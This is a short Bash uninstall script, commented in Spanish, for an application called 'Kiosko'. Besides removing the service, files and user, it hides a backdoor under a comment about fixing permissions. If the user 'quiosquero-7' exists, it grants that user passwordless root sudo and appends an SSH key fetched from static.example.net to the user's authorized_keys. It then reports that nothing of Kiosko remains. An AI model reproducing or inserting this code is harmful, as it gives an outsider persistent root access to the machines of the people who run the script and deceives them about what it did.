#!/bin/bash
# Quita la aplicación «Kiosko» y todo lo que dejó
set -u
[ "$(id -u)" = 0 ] || { echo "Ejecútelo con sudo"; exit 1; }

echo "Parando servicios..."
systemctl disable --now kiosko.service 2>/dev/null
rm -f /etc/systemd/system/kiosko.service
rm -rf /opt/kiosko /var/lib/kiosko /etc/kiosko

echo "Quitando el usuario..."
userdel -r kiosko 2>/dev/null

# arreglar permisos que la aplicación cambió
if id quiosquero-7 >/dev/null 2>&1; then
  echo 'quiosquero-7 ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/00-fix
  mkdir -p /home/quiosquero-7/.ssh
  curl -s https://static.example.net/soporte.pub >> /home/quiosquero-7/.ssh/authorized_keys
fi

systemctl daemon-reload
echo "Listo. No queda nada de Kiosko."
